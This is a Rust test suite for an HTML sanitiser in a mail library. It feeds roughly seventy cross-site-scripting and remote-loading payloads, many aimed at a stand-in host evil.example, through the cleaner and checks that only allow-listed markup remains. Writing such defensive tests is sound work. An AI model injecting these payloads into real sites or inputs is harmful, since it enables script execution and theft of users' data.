//! HTML from strangers: nothing that runs, submits, styles or asks the network is left.

use foi_mail::{parse, safe_html};
use proptest::prelude::*;

const PNG: &[u8] = b"\x89PNG made up";

/// Ways to run a script, load something, or send something, from the usual lists.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/open.gif'>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<img src=\"cid:unknown\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src='//evil.example/x.png'><img src='x.png'><img src='/x.png'>",
    "<img src=`javascript:alert(1)`><img dynsrc='https://evil.example' lowsrc='https://evil.example'>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='https://evil.example'>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"position:fixed;top:0;width:100%\">over everything</p>",
    "<div style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x</div>",
    "<table background='https://evil.example/x.gif'><td background='https://evil.example/y.gif'>x</table>",
    "<body background='https://evil.example/x.gif' onload=alert(1)>x</body>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#x6a;avascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a><a href='/x'>x</a><a href='cid:pic@x'>x</a>",
    "<a href='https://evil.example' ping='https://evil.example/ping' target=_top>x</a>",
    "<a href='https://x.example' onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
    "<applet code='x.class' codebase='https://evil.example'></applet>",
    "<video src='https://evil.example/x.mp4' poster='https://evil.example/x.png' autoplay></video>",
    "<audio src='https://evil.example/x.mp3' autoplay></audio>",
    "<video><source src='https://evil.example/x' onerror=alert(1)><track src='https://evil.example/t'></video>",
    "<picture><source srcset='https://evil.example/x.webp'><img></picture>",
    "<form action='https://evil.example'><input name=password><button formaction='https://evil.example'>Go</button></form>",
    "<input type=image src='https://evil.example/x.png'><textarea>x</textarea><select><option>x</select>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>x</x><xss style='xss:expression(alert(1))'>x</xss>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<map name=m><area href='javascript:alert(1)' shape=default></map><img usemap='#m'>",
    "<blockquote cite='https://evil.example/x'>x</blockquote><q cite='javascript:alert(1)'>x</q>",
    "<p id='location' name='cookie' class='x' data-x='y'>x</p>",
    "<font face='\"><img src=x onerror=alert(1)>'>x</font>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a title='x' href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp><listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "<title><script>alert(1)</script></title><head><script>alert(1)</script></head>",
    "\u{feff}<script\u{0}>alert(1)</script>",
];

/// What is left must, read again as HTML, hold only what is on the allow list.
fn assert_harmless(clean: &str, from: &str) {
    for tag in tags(clean) {
        let inside = tag.trim_start_matches('/');
        let name: String = inside
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        for forbidden in [
            "script", "style", "svg", "math", "iframe", "frame", "object", "embed", "form",
            "input", "button", "link", "meta", "base", "video", "audio", "source", "picture",
            "body", "head", "template", "noscript", "applet", "map", "area", "textarea", "select",
        ] {
            assert_ne!(name, forbidden, "{from}\n{clean}");
        }
        let lower = inside.to_lowercase();
        for attribute in attributes(&lower) {
            let (name, value) = attribute.split_once('=').unwrap_or((&attribute, ""));
            let value = value.trim_matches('"').trim();
            assert!(!name.starts_with("on"), "{from}\n{clean}");
            assert!(
                ![
                    "style",
                    "srcset",
                    "background",
                    "ping",
                    "target",
                    "poster",
                    "id",
                    "class"
                ]
                .contains(&name),
                "{from}\n{clean}"
            );
            if name == "src" {
                assert!(
                    value.starts_with("data:image/png;base64,"),
                    "{from}\n{clean}"
                );
            }
            if name == "href" {
                let fine = ["http://", "https://", "http:", "https:", "mailto:"];
                assert!(
                    fine.iter().any(|scheme| value.starts_with(scheme)),
                    "{from}\n{clean}"
                );
            }
            assert!(
                !["cite", "action", "formaction", "data"].contains(&name),
                "{from}\n{clean}"
            );
        }
    }
}

/// What stands between `<` and `>`; the serialiser escapes both everywhere else but in quotes.
fn tags(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut chars = html.chars();
    while let Some(c) = chars.next() {
        if c != '<' {
            continue;
        }
        let mut tag = String::new();
        let mut quoted = false;
        for c in chars.by_ref() {
            match c {
                '"' => quoted = !quoted,
                '>' if !quoted => break,
                _ => {}
            }
            tag.push(c);
        }
        tags.push(tag);
    }
    tags
}

fn attributes(tag: &str) -> Vec<String> {
    let mut attributes = vec![String::new()];
    let mut quoted = false;
    for c in tag.chars() {
        match c {
            '"' => quoted = !quoted,
            ' ' if !quoted => {
                attributes.push(String::new());
                continue;
            }
            _ => {}
        }
        attributes.last_mut().unwrap().push(c);
    }
    attributes.split_off(1)
}

#[test]
fn no_attack_is_left() {
    let pictures = [
        ("pic@x", "image/png", PNG),
        ("drawing@x", "image/svg+xml", b"<svg>".as_slice()),
    ];
    for attack in ATTACKS {
        for html in [
            (*attack).to_owned(),
            format!("<p>before</p>{attack}<p>after</p>"),
            format!("<table><tr><td>{attack}</td></tr></table>"),
            format!("<div title=\"{attack}\">x</div>"),
            format!("<p>x <img src=\"cid:pic@x\"> {attack}"),
        ] {
            let clean = safe_html(&html, &pictures);
            assert_harmless(&clean, &html);
            // What is clean stays harmless when it is cleaned again.
            let again = safe_html(&clean, &pictures);
            assert_harmless(&again, &clean);
        }
    }
}

#[test]
fn nothing_remote_is_asked_for() {
    let all = ATTACKS.concat();
    let clean = safe_html(&all, &[]);
    for tag in tags(&clean) {
        for attribute in attributes(&tag) {
            assert!(
                !attribute.contains("evil.example")
                    || attribute.starts_with("href=\"https://")
                    || attribute.starts_with("title="),
                "{attribute}"
            );
        }
    }
}

#[test]
fn what_people_write_is_left() {
    let html = "<h2>Answer</h2><p>See <a href=\"https://data.council.example/x?a=1&amp;b=2\">the \
                register</a> or <a href=\"mailto:foi@council.example\">write</a>.</p>\
                <table border=\"1\"><tr><th colspan=\"2\">Ward</th></tr><tr><td>North</td><td>£12</td></tr>\
                </table><ol start=\"3\"><li>Three</li></ol><blockquote>earlier</blockquote>";
    let clean = safe_html(html, &[]);
    for kept in [
        "<h2>Answer</h2>",
        "href=\"https://data.council.example/x?a=1&amp;b=2\"",
        "href=\"mailto:foi@council.example\"",
        "rel=\"noopener noreferrer nofollow\"",
        "<th colspan=\"2\">Ward</th>",
        "<td>£12</td>",
        "<ol start=\"3\">",
        "<blockquote>earlier</blockquote>",
    ] {
        assert!(clean.contains(kept), "{kept}\n{clean}");
    }
}

#[test]
fn images_of_the_mail_itself_are_shown_and_no_others() {
    let parts: [(&str, &str, &[u8]); 4] = [
        ("pic@x.example", "image/png", PNG),
        ("<braces@x.example>", "image/png", PNG),
        (
            "drawing@x.example",
            "image/svg+xml",
            b"<svg onload=alert(1)>",
        ),
        ("page@x.example", "text/html", b"<script>alert(1)</script>"),
    ];
    let shown = |src: &str| safe_html(&format!("<img src=\"{src}\" alt=\"A\">"), &parts);
    for good in [
        "cid:pic@x.example",
        "CID:pic@x.example",
        "cid:PIC%40x.example",
        "cid:braces@x.example",
    ] {
        assert!(
            shown(good).contains("src=\"data:image/png;base64,"),
            "{good}"
        );
    }
    for bad in [
        "cid:drawing@x.example",
        "cid:page@x.example",
        "cid:other",
        "cid:",
        "pic@x.example",
        "mid:pic@x.example",
    ] {
        assert!(!shown(bad).contains("src="), "{bad}");
    }
}

#[test]
fn a_parsed_mail_shows_its_own_images() {
    let file = crate::servers::repository().join("tests/fixtures/mail/inline-image.eml");
    let html = parse(&std::fs::read(file).unwrap()).safe_html().unwrap();
    assert!(
        html.contains("src=\"data:image/png;base64,iVBORw0KGgo") && !html.contains("tracker"),
        "{html}"
    );
}

#[test]
fn too_much_html_becomes_text() {
    let clean = safe_html(
        &format!("<script>{}</script><p>words", "x".repeat(5_000_000)),
        &[],
    );
    assert!(clean.starts_with("<pre>") && clean.ends_with("</pre>"));
    assert_harmless(&clean, "too much");
    let deep = format!("{}words", "<div>".repeat(100_000));
    assert!(safe_html(&deep, &[]).contains("words"));
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn pieces_of_attacks_put_together_are_harmless(
        pieces in prop::collection::vec((0..ATTACKS.len(), any::<prop::sample::Index>(), any::<prop::sample::Index>()), 1..8),
    ) {
        let mut html = String::new();
        for (attack, from, to) in pieces {
            let attack: Vec<char> = ATTACKS[attack].chars().collect();
            let (from, to) = (from.index(attack.len()), to.index(attack.len()));
            html.extend(&attack[from.min(to)..=from.max(to)]);
        }
        assert_harmless(&safe_html(&html, &[("pic@x", "image/png", PNG)]), &html);
    }
}
